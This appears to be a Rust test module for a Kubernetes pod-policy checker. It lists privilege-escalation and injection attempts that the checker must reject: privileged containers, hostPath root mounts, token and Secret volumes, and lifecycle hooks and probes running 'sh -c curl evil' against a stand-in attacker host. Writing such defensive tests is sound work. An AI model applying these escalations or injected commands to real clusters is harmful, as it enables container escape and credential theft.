//! What a pod may do: on its node, in the cluster, and which code it runs.

use serde_json::json;
use wellhead_tests::guest::{Edit, Guest, Manner};

use super::super::{Attack, Expect};
use super::{edit, invalid, no_setter};

/// A volume of the pod.
fn volume(what: &str, json: &str, path: &'static str) -> Attack {
    let volume = Edit::pipeline("set-volume").text("v").text(json);
    edit(what, volume, Expect::Protected(path))
}

/// Host namespaces and ports have no setter; the rest is in the security contexts and volumes.
pub(super) fn security() -> Vec<Attack> {
    let container = |json: &str, path| {
        let set = Edit::container("set-security-context").some(json);
        edit(json, set, Expect::Protected(path))
    };
    let pod = |json: &str, path| {
        let set = Edit::pipeline("set-security-context").some(json);
        edit(json, set, Expect::Protected(path))
    };
    let mut attacks: Vec<_> =
        ["set-host-network", "set-host-pid", "set-host-ipc", "set-host-users"]
            .map(no_setter)
            .into();
    attacks.extend([
        container(r#"{"privileged":true}"#, "containers.db.securityContext.privileged"),
        container(
            r#"{"allowPrivilegeEscalation":true}"#,
            "containers.db.securityContext.allowPrivilegeEscalation",
        ),
        container(
            r#"{"capabilities":{"add":["SYS_ADMIN"]}}"#,
            "containers.db.securityContext.capabilities.add",
        ),
        container(r#"{"runAsUser":0}"#, "containers.db.securityContext.runAsUser"),
        container(r#"{"procMount":"Unmasked"}"#, "containers.db.securityContext.procMount"),
        container(
            r#"{"seccompProfile":{"type":"Unconfined"}}"#,
            "containers.db.securityContext.seccompProfile.type",
        ),
        pod(r#"{"runAsUser":0}"#, "securityContext.runAsUser"),
        pod(r#"{"seccompProfile":{"type":"Unconfined"}}"#, "securityContext.seccompProfile.type"),
        pod(
            r#"{"sysctls":[{"name":"kernel.shm_rmid_forced","value":"1"}]}"#,
            "securityContext.sysctls",
        ),
        volume("hostPath", r#"{"hostPath":{"path":"/"}}"#, "volumes.v.hostPath"),
        volume("nfs", r#"{"nfs":{"server":"evil","path":"/"}}"#, "volumes.v.nfs"),
        edit(
            "a critical priority",
            Edit::pipeline("set-priority-class-name").some("system-node-critical"),
            Expect::Protected("priorityClassName"),
        ),
    ]);
    // A port of the contract has a number, a protocol and a name.
    attacks.push(no_setter("set-host-port"));
    attacks
}

/// There is no setter of `automountServiceAccountToken`.
pub(super) fn credentials() -> Vec<Attack> {
    let config_map = Edit::pipeline("set-volume").text("v").text(r#"{"configMap":{"name":"c"}}"#);
    vec![
        edit(
            "the service account",
            Edit::pipeline("set-service-account-name").some("admin"),
            Expect::Protected("serviceAccountName"),
        ),
        no_setter("set-automount-service-account-token"),
        volume(
            "a projected token",
            r#"{"projected":{"sources":[{"serviceAccountToken":{"path":"token"}}]}}"#,
            "volumes.v.projected.sources[0].serviceAccountToken",
        ),
        volume("a Secret", r#"{"secret":{"secretName":"admin"}}"#, "volumes.v.secret"),
        volume(
            "a projected Secret",
            r#"{"projected":{"sources":[{"secret":{"name":"admin"}}]}}"#,
            "volumes.v.projected.sources[0].secret",
        ),
        edit("a ConfigMap that is not granted", config_map, Expect::Denied("volumes.v"))
            .with(json!({"grants": ["containers.**", "volumes.cache"]})),
    ]
}

/// Ephemeral containers are no part of a pod's template, and have no setter.
pub(super) fn injected_containers() -> Vec<Attack> {
    let only_env = |what, edit: Edit, path| {
        Attack::new(what, &Guest::makes(&[edit], Manner::Stubborn), Expect::Denied(path))
            .with(json!({"grants": ["containers.*.env.*"]}))
    };
    let hook = r#"{"postStart":{"exec":{"command":["sh","-c","curl evil"]}}}"#;
    let probe = r#"{"exec":{"command":["sh","-c","curl evil"]}}"#;
    let mut attacks = vec![
        only_env(
            "a command",
            Edit::container("set-command").texts(&["sh"]),
            "containers.db.command",
        ),
        only_env("arguments", Edit::container("set-args").texts(&["-c"]), "containers.db.args"),
        only_env("a hook", Edit::container("set-lifecycle").some(hook), "containers.db.lifecycle"),
        only_env(
            "a probe",
            Edit::container("set-liveness-probe").some(probe),
            "containers.db.livenessProbe",
        ),
        only_env(
            "a sidecar",
            Edit::pipeline("add-container").text("evil").text("evil.example/x:1"),
            "containers.evil",
        ),
        only_env(
            "an init container",
            Edit::pipeline("add-init-container").text("evil").text("evil.example/x:1"),
            "initContainers.evil",
        ),
        no_setter("add-ephemeral-container"),
    ];
    attacks.extend(invalid(
        "a field of a hook that does not exist",
        Edit::container("set-lifecycle").some(r#"{"postStart":{"shell":"curl evil"}}"#),
        "containers.db.lifecycle",
        "there is no field",
    ));
    attacks
}
